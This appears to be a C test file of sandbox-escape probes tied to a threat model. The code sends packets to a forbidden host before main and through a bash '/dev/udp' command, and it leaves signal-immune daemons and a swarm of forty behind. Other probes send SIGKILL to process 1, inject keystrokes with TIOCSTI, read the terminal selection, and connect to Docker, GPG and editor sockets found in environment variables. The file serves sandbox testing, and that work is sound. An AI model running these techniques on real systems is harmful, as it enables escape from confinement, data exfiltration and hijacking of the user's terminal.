// Before the rules stand, while the launcher is stopped or dead, after its end; its terminal; what the
// environment names. Rows of THREATS.md sections 7 and 9.
#include <poll.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <termios.h>

#include "net.h"

// The very first thing that the program does.
__attribute__((constructor)) static void first_packet(int argc, char** argv) {
  for (int i = 4; i < argc; ++i) {
    if (strcmp(argv[i], "lifecycle.first-packet") != 0) continue;
    const char* text = token_of(argv[3], argv[i]);
    const struct sockaddr_in to = ipv4(FORBIDDEN, 443);
    sendto(socket(AF_INET, SOCK_DGRAM, 0), text, strlen(text), 0, (const struct sockaddr*)&to, sizeof to);
  }
}
static void before_main(const struct probe* p) {
  (void)p;
  said("sent before main");
}

static void wait_for(const char* path) {
  for (int i = 0; i < 2000 && access(path, F_OK) != 0; ++i) poll(NULL, 0, 5);
}

// A process that is nobody's child, in a session of its own, and cannot be asked to end. The runner knows it
// by its name, which is the token's beginning.
static bool daemonize(void) {
  int ends[2];
  char ready = 0;
  must(pipe(ends));
  const pid_t child = (pid_t)must(fork());
  if (child != 0) {
    close(ends[1]);
    waitpid(child, NULL, 0);
    must(read(ends[0], &ready, 1));
    return false;
  }
  setsid();
  if (fork() != 0) _exit(0);
  for (int i = 1; i < 32; ++i) signal(i, SIG_IGN);
  prctl(PR_SET_NAME, token());
  must(write(ends[1], "x", 1));
  return true;
}
static void send_later(const struct probe* p) {
  if (strcmp(first_word(p), "udp") == 0) flow(p);
  unix_token(SOCK_STREAM, argument(p));
}
static void outlive(const struct probe* p) {
  const char* go = value(p, "go");
  if (!daemonize()) {
    tell(p, "ready", "yes");
    // For those whose launcher is killed now: it is not we who end.
    if (strstr(p->needs, "kills") != NULL) wait_for(go);
    said("a daemon is left");
  }
  wait_for(go);
  send_later(p);
}
static void swarm(const struct probe* p) {
  (void)p;
  for (int i = 0; i < 40; ++i)
    if (daemonize()) poll(NULL, 0, 5000), _exit(0);
  said("40 daemons are left");
}
static void orphan(const struct probe* p) {
  if (daemonize()) {
    wait_for(value(p, "go"));
    send_later(p);
  }
  kill(1, SIGKILL);
  kill(getppid(), SIGKILL);
  _exit(0);
}
static void while_stopped(const struct probe* p) {
  tell(p, "ready", "yes");
  wait_for(value(p, "go"));
  for (int i = 0; i < 20; ++i) {
    const struct place to = place(argument(p));
    sendto(flow_socket(p, &to), token(), strlen(token()), 0, (const struct sockaddr*)&to.address, to.size);
  }
  tell(p, "sent", "yes");
}
static void and_end(const struct probe* p) {
  const struct place to = place(argument(p));
  const int fd = flow_socket(p, &to);
  for (int i = 0; i < 100; ++i)
    sendto(fd, token(), strlen(token()), 0, (const struct sockaddr*)&to.address, to.size);
  kill(getppid(), SIGKILL);
  _exit(0);
}
static void by_shell(const struct probe* p) {
  char command[128];
  (void)p;
  snprintf(command, sizeof command, "exec bash -c 'echo %s > /dev/udp/%s/443'", token(), FORBIDDEN);
  execl("/bin/bash", "bash", "-c", command, NULL);
  failed("bash");
}
// What process 1 was started from, to be written once nobody runs it any more.
static void init_program(const struct probe* p) {
  char path[64];
  (void)p;
  snprintf(path, sizeof path, "/proc/self/fd/%ld", must(open("/proc/1/exe", O_PATH)));
  must(access(path, W_OK));
  said("has it");
}

// --- the terminal

static void type_into(int fd, unsigned long request) {
  for (const char* c = token(); *c != 0; ++c) must(syscall(SYS_ioctl, fd, request, c));
}
static void type(const struct probe* p) {
  (void)p;
  type_into(0, TIOCSTI);
}
static void type_high_bits(const struct probe* p) {
  (void)p;
  type_into(0, 0xf00000000ul | TIOCSTI);
}
static void type_tty(const struct probe* p) {
  (void)p;
  type_into((int)must(open("/dev/tty", O_RDWR)), TIOCSTI);
}
static void type_own(const struct probe* p) {
  (void)p;
  setsid();
  ioctl(0, TIOCSCTTY, 1);
  type_into(0, TIOCSTI);
}
static void paste(const struct probe* p) {
  char what = 3;  // the selection
  (void)p;
  must(ioctl(0, TIOCLINUX, &what));
  said("has it");
}
static void other_terminal(const struct probe* p) {
  send_token((int)must(open(value(p, "terminal"), O_WRONLY | O_NOCTTY | O_NONBLOCK)));
}
static void leave_raw(const struct probe* p) {
  struct termios mode;
  (void)p;
  must(tcgetattr(0, &mode));
  mode.c_lflag ^= ECHO | ICANON | ISIG;
  must(tcsetattr(0, TCSANOW, &mode));
}

// --- the environment

static const char* const kVariables[] = {
    "SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DOCKER_HOST",    "WAYLAND_DISPLAY",     "TMUX",
    "NOTIFY_SOCKET", "GPG_AGENT_INFO",           "CONTAINER_HOST", "VSCODE_IPC_HOOK_CLI", "PULSE_SERVER"};
// To the path in it, whatever is around.
static void by_variable(const struct probe* p) {
  const char* name = strstr(p->needs, "env=") + 4;
  const char* text = getenv(name);
  if (text == NULL) said("no: there is no %s", name);
  char* path = strdup(strchr(text, '/') == NULL ? text : strchr(text, '/'));
  while (strncmp(path, "//", 2) == 0) ++path;
  path[strcspn(path, ",:")] = 0;
  unix_token(strstr(p->needs, "env-dgram") != NULL ? SOCK_DGRAM : SOCK_STREAM, path);
}
static void any_variable(const struct probe* p) {
  (void)p;
  for (size_t i = 0; i < sizeof kVariables / sizeof *kVariables; ++i)
    if (getenv(kVariables[i]) != NULL) said("has it: %s", kVariables[i]);
  said("no: none of them");
}

#define P(name, kind_, promise_, needs_, attempt_, text_)                                        \
  {                                                                                              \
    .id = "lifecycle." name, .kind = kind_, .promise = promise_, .text = text_, .needs = needs_, \
    .attempt = attempt_                                                                          \
  }
#define UDP "udp:203.0.113.10,443 "
#define NAMED(name, where_, variable_) \
  P(name, 'A', "P13", where_ " env=" variable_, by_variable, "the socket that " variable_ " names")

const struct probe probes[] = {
    P("first-packet", 'A', "P2", "-", before_main, "a packet before main"),
    P("last-packets", 'A', "P2", UDP "ends alone", and_end, "packets, and at once the end of the program"),
    P("daemon-udp", 'A', "P2", UDP "outlives alone", outlive, "a daemon sends when the launcher has ended"),
    P("daemon-unix", 'A', "P13", "stream:~/after outlives alone", outlive,
      "a daemon connects when the launcher has ended"),
    P("daemon", 'D', "P8", UDP "outlives=alive alone", outlive,
      "a daemon is there when the launcher has ended"),
    P("swarm", 'D', "P8", UDP "outlives=alive alone", swarm,
      "forty daemons are there when the launcher has ended"),
    P("orphan", 'D', "P8", UDP "outlives=alive ends alone", orphan,
      "a daemon, after SIGKILL to process 1 and the program"),
    P("killed-udp", 'A', "P2", UDP "kills outlives alone", outlive,
      "a daemon sends when the launcher was killed"),
    P("killed-unix", 'A', "P13", "stream:~/killed kills outlives alone", outlive,
      "a daemon connects when the launcher was killed"),
    P("killed", 'D', "P8", UDP "kills outlives=alive alone", outlive,
      "a daemon is there when the launcher was killed"),
    P("stopped-udp", 'A', "P2", UDP "stops alone", while_stopped, "packets while the launcher is stopped"),
    P("stopped-lan", 'A', "P3", "udp:192.168.77.10,9 stops alone", while_stopped,
      "the same to the local network"),
    P("stopped-port", 'A', "P1", "udp:198.51.100.10,443 stops alone", while_stopped,
      "the same to the allowed host"),
    P("shell", 'A', "P1", "-", by_shell, "another program sends: exec twice"),
    {.id = "lifecycle.init-program",
     .kind = 'B',
     .promise = "P8",
     .needs = "- surface",
     .text = "the program of process 1, open by /proc/1/exe",
     .attempt = init_program,
     .note = "root: process 1 is root's"},
    P("type", 'B', "P12", "terminal", type, "TIOCSTI"),
    P("type-high-bits", 'B', "P12", "terminal", type_high_bits, "TIOCSTI, bits in the upper half"),
    P("type-tty", 'B', "P12", "terminal", type_tty, "TIOCSTI by /dev/tty"),
    {.id = "lifecycle.type-own",
     .kind = 'B',
     .promise = "P12",
     .needs = "terminal",
     .text = "TIOCSTI, the terminal made its own",
     .attempt = type_own,
     .note = "root: to take a terminal from a session asks for CAP_SYS_ADMIN"},
    {.id = "lifecycle.paste",
     .kind = 'B',
     .promise = "P12",
     .needs = "terminal surface",
     .text = "TIOCLINUX: pastes the selection",
     .attempt = paste,
     .note = "never: only a console of the machine's has a selection"},
    P("other-terminal", 'C', "P13", "other-terminal", other_terminal,
      "writes to another terminal of the user's"),
    {.id = "lifecycle.leave-raw",
     .kind = 'D',
     .promise = "P12",
     .needs = "terminal terminal-mode",
     .text = "leaves the terminal in another mode",
     .attempt = leave_raw,
     .note = "choice: any program may do so, a shell puts its terminal right"},
    NAMED("docker", "env-stream:~/env/docker", "DOCKER_HOST"),
    NAMED("podman", "env-stream:/srv/env/podman", "CONTAINER_HOST"),
    NAMED("wayland", "env-stream:~/env/wayland", "WAYLAND_DISPLAY"),
    NAMED("tmux", "env-stream:/var/lib/env/tmux", "TMUX"),
    NAMED("notify", "env-dgram:/opt/env/notify", "NOTIFY_SOCKET"),
    NAMED("gpg", "env-stream:~/env/gpg", "GPG_AGENT_INFO"),
    NAMED("editor", "env-stream:~/env/editor", "VSCODE_IPC_HOOK_CLI"),
    NAMED("pulse", "env-stream:~/env/pulse", "PULSE_SERVER"),
    P("variables", 'S', "P13", "- surface", any_variable, "variables that name a service are passed on"),
    {0}};
